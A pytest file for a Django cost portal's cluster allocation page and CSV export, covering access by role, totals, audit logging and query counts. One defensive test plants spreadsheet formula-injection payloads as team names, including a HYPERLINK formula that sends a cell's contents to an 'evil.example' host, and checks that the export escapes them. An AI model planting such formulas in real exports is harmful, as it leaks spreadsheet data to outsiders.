"""The cluster allocation page and its CSV export: who sees what, the figures adding up, the audited export."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from access.audit import services as audit
from access.models import AuditEvent, Team, User
from costs.allocation import services as allocation
from costs.choices import SourceKind
from costs.focus import read_focus
from costs.models import CostSource
from costs.store import load_period
from portal.demo import Persona
from regions.models import Cluster
from tests.costs.allocation_cluster import DAY, at_hour, namespace, node, pod, sandbox_for
from tests.costs.focus_files import focus_csv, focus_row
from tests.helpers import FORMULA_PAYLOADS, formulas_in, queries_for

ClientFor = Callable[[Persona | None], Client]
RANGE = {"start": DAY.isoformat(), "end": DAY.isoformat()}
BILL = ("120.00", "0.3333333333", "17.0000000007")
CLUSTER_COST = Decimal("137.3333333340")

pytestmark = pytest.mark.shared_demo


@pytest.fixture
def cluster(persona: Callable[[Persona], User], tmp_path: Path) -> Cluster:
    """The demo's EKS cluster in eu-west-1, sampled for two hours of ``DAY`` and its node cost on the bill."""
    found = Cluster.objects.select_related("region").get(name="eks-eu-west-1")
    driver = sandbox_for(found, tmp_path)
    for item in (
        namespace("student-services"),  # the inventory says: student-experience
        namespace("tutor-services"),  # tutor-tools
        namespace("scratch"),  # nobody's
        pod("student-services", "web", {"cpu": "1500m", "memory": "2Gi"}),
        pod("tutor-services", "api", {"cpu": "750m", "memory": "3Gi"}),
        pod("scratch", "debug", {"cpu": "100m", "memory": "128Mi"}),
        node("node-a", {"cpu": "8", "memory": "32Gi"}),
    ):
        driver.seed(item)
    for hour in (9, 10):
        allocation.sample_and_allocate(cluster=found, slot=at_hour(hour), driver=driver)
    rows = [
        focus_row(DAY.isoformat(), amount, Tags={"eks:cluster-name": found.name}, ResourceId=f"i-{number}")
        for number, amount in enumerate(BILL)
    ]
    parsed = read_focus(focus_csv(rows))
    assert parsed.ok, parsed.errors
    load_period(CostSource.objects.create(name="aws-bill", kind=SourceKind.UPLOAD), DAY.replace(day=1), parsed.rows)
    return found


def page(cluster: Cluster) -> str:
    return reverse("costs:allocation", kwargs={"cluster_id": cluster.pk})


def export(cluster: Cluster) -> str:
    return reverse("costs:allocation_export", kwargs={"cluster_id": cluster.pk})


def shown_namespaces(html: str) -> set[str]:
    return {
        name
        for name in ("student-services", "tutor-services", "scratch", "(idle)")
        if f'data-namespace="{name}"' in html
    }


def test_a_manager_sees_every_namespace_with_idle_apart_and_the_clusters_cost(
    cluster: Cluster, client_for: ClientFor
) -> None:
    response = client_for(Persona.MANAGER).get(page(cluster), RANGE)

    assert response.status_code == 200
    html = response.content.decode()
    assert shown_namespaces(html) == {"student-services", "tutor-services", "scratch", "(idle)"}
    report = response.context["report"]
    assert report.totals == {"USD": CLUSTER_COST}
    student = next(row for row in report.rows if row.namespace == "student-services")
    assert (student.team, student.cpu_request_hours, student.charged_cpu_hours) == (
        "Student Experience",
        Decimal(3),
        Decimal(3),
    )
    assert next(row for row in report.rows if row.namespace == "scratch").unallocated
    assert sum(row.share for row in [*report.rows, report.idle]) == 1
    assert 'data-chart-data="allocation-chart"' in html
    assert "Export CSV" in html


def test_a_developer_sees_only_their_teams_namespaces_and_may_not_export(
    cluster: Cluster, client_for: ClientFor
) -> None:
    developer = client_for(Persona.DEVELOPER)

    response = developer.get(page(cluster), RANGE)

    assert response.status_code == 200
    html = response.content.decode()
    assert shown_namespaces(html) == {"student-services"}
    assert set(response.context["report"].totals) == {"USD"}
    assert response.context["report"].totals["USD"] < CLUSTER_COST
    assert "Export CSV" not in html
    assert developer.get(export(cluster), RANGE).status_code == 403


def test_who_may_not_see_costs_does_not_learn_the_page_exists(cluster: Cluster, client_for: ClientFor) -> None:
    assert client_for(Persona.AUDITOR).get(page(cluster), RANGE).status_code == 404
    assert client_for(None).get(page(cluster), RANGE).status_code == 302
    assert (
        client_for(Persona.MANAGER).get(reverse("costs:allocation", kwargs={"cluster_id": 999999})).status_code == 404
    )


def test_a_range_that_ends_before_it_starts_is_refused_with_a_message(cluster: Cluster, client_for: ClientFor) -> None:
    response = client_for(Persona.MANAGER).get(page(cluster), {"start": "2026-11-05", "end": "2026-11-01"})

    assert response.status_code == 400
    assert "starts after it ends" in response.content.decode()


def test_htmx_gets_only_the_table(cluster: Cluster, client_for: ClientFor) -> None:
    response = client_for(Persona.MANAGER).get(page(cluster), RANGE, HTTP_HX_REQUEST="true")

    html = response.content.decode()
    assert 'data-section="allocation"' in html
    assert "<html" not in html


def test_the_csv_export_holds_every_line_adds_up_to_the_clusters_cost_and_is_audited(
    cluster: Cluster, client_for: ClientFor, persona: Callable[[Persona], User]
) -> None:
    response = client_for(Persona.MANAGER).get(export(cluster), RANGE)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
    assert [row["namespace"] for row in rows][-1] == "Idle capacity"
    assert {row["namespace"] for row in rows} == {"student-services", "tutor-services", "scratch", "Idle capacity"}
    assert sum(Decimal(row["cost"]) for row in rows) == CLUSTER_COST
    assert sum(Decimal(row["mean_daily_share"]) for row in rows) == 1
    event = AuditEvent.objects.get(verb=audit.COST_ALLOCATION_EXPORTED)
    assert event.actor == persona(Persona.MANAGER)
    assert event.object_id == str(cluster.pk)


def test_the_csv_export_writes_no_team_name_a_spreadsheet_of_any_locale_would_run(
    cluster: Cluster, client_for: ClientFor
) -> None:
    Team.objects.filter(slug="student-experience").update(name=FORMULA_PAYLOADS[1])  # x;=HYPERLINK(…)
    Team.objects.filter(slug="tutor-tools").update(name=FORMULA_PAYLOADS[0])  # =HYPERLINK(…)

    response = client_for(Persona.MANAGER).get(export(cluster), RANGE)

    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert formulas_in(body) == []
    teams = {row["team"] for row in csv.DictReader(io.StringIO(body, newline=""))}
    assert {"'" + FORMULA_PAYLOADS[0], 'x;\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")'} <= teams


def test_the_page_runs_as_many_queries_for_many_namespaces_as_for_few(
    cluster: Cluster, client_for: ClientFor, tmp_path: Path
) -> None:
    client = client_for(Persona.MANAGER)
    few = queries_for(client, page(cluster), RANGE)
    driver = sandbox_for(cluster, tmp_path)
    for number in range(12):
        driver.seed(namespace(f"extra-{number}"))
        driver.seed(pod(f"extra-{number}", "app", {"cpu": "100m", "memory": "64Mi"}))
    allocation.sample_and_allocate(cluster=cluster, slot=at_hour(11), driver=driver)

    assert queries_for(client, page(cluster), RANGE) == few


def test_a_platform_admin_sets_the_on_prem_rate_card_on_the_price_table_and_allocation_uses_it(
    client_for: ClientFor,
) -> None:
    response = client_for(Persona.PLATFORM_ADMIN).post(
        reverse("costs:price_create"),
        {
            "provider": "on_prem",
            "region_code": "",
            "kind": "cpu",
            "size": "",
            "unit": "vcpu_hour",
            "price": "0.0213",
            "currency": "USD",
            "effective_from": "2026-11-02",
            "note": "New servers over four years",
        },
    )

    assert response.status_code == 302
    rates = allocation.rates_for(
        provider="on_prem", region_code="site-001", day=DAY, needed=allocation.Consumption(Decimal(1))
    )
    assert rates.cpu == Decimal("0.0213")


def test_the_cluster_page_links_to_its_allocation_for_who_may_see_costs(client_for: ClientFor) -> None:
    cluster = Cluster.objects.select_related("region").get(name="eks-eu-west-1")
    path = reverse("regions:cluster", args=[cluster.region.provider, cluster.region.code, cluster.name])
    link = reverse("costs:allocation", kwargs={"cluster_id": cluster.pk})

    assert link in client_for(Persona.MANAGER).get(path).content.decode()
    assert link not in client_for(Persona.AUDITOR).get(path).content.decode()
